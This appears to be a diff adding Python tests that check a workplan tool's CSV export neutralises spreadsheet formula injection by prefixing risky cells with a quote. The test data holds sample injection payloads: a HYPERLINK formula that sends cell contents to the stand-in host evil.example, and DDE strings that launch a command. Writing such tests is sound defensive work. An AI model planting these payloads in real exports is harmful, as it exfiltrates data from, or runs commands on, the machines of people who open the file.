@@ -13,7 +13,7 @@ from pydantic import TypeAdapter
 
 from tests.conftest import ROOT
 from tests.exporting import NOTE_1_3_2, add_dates, check_golden
-from workplan_cli.output.exports import csv_columns
+from workplan_cli.output.exports import csv_columns, inert_cell
 from workplan_cli.plan.model import Plan, StakeholderFile
 from workplan_cli.plan.store import find_repo
 
@@ -263,3 +263,77 @@ def test_an_export_that_would_not_be_well_formed_is_a_bug_not_a_file(
 
 def _bad(text: str) -> str:
     return text.replace("tab", "\x01")  # a control character the cleaning let through
+
+
+# Cells that a spreadsheet would run as formulas (OWASP "CSV Injection").
+HOSTILE_CELLS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "topic_title": "+1+cmd|' /C calc'!A0",
+    "text": '-2+3, then "quoted"',
+    "last_note": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _hostile_plan(repo):
+    path = repo / "data" / "workplan-2024.yaml"
+    text = path.read_text(encoding="utf-8")
+    block = text.index('- id: "1.3.2"')
+    head, tail = text[:block], text[block:]
+    head = head.replace(
+        "title: Cybersecurity", f"title: {json.dumps(HOSTILE_CELLS['topic_title'])}"
+    )
+    tail = tail.replace(
+        "title: Cyber security innovation challenge or hackathon",
+        f"title: {json.dumps(HOSTILE_CELLS['title'])}",
+        1,
+    )
+    tail = tail.replace(
+        """text: >-
+              Pilot an innovation challenge or hackathon on cyber security with students from
+              Kenya and Germany.""",
+        f"text: {json.dumps(HOSTILE_CELLS['text'])}",
+        1,
+    )
+    tail = tail.replace(
+        "status: planned",
+        "status: in-progress",
+        1,
+    ).replace(
+        "history: []",
+        "history: [{date: 2024-05-02, from: planned, to: in-progress, "
+        f"note: {json.dumps(HOSTILE_CELLS['last_note'])}}}]",
+        1,
+    )
+    path.write_text(head + tail, encoding="utf-8")
+
+
+def test_csv_cells_that_start_a_formula_are_inert(repo, cli):
+    _hostile_plan(repo)
+    text = cli("export", "--format", "csv", "--plan", "2024").stdout
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    row = rows["1.3.2"]
+    for column, value in HOSTILE_CELLS.items():
+        assert row[column] == "'" + value, column  # read back: one quote, then the text
+    assert rows["1.3.1"]["topic_title"] == "'" + HOSTILE_CELLS["topic_title"]
+    for row in rows.values():  # no cell of any row starts a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("a=1", "a=1"),
+        ("1.3.2", "1.3.2"),
+        ("", ""),
+        ("'=1", "'=1"),
+    ],
+)
+def test_inert_cell(cell, shown):
+    assert inert_cell(cell) == shown
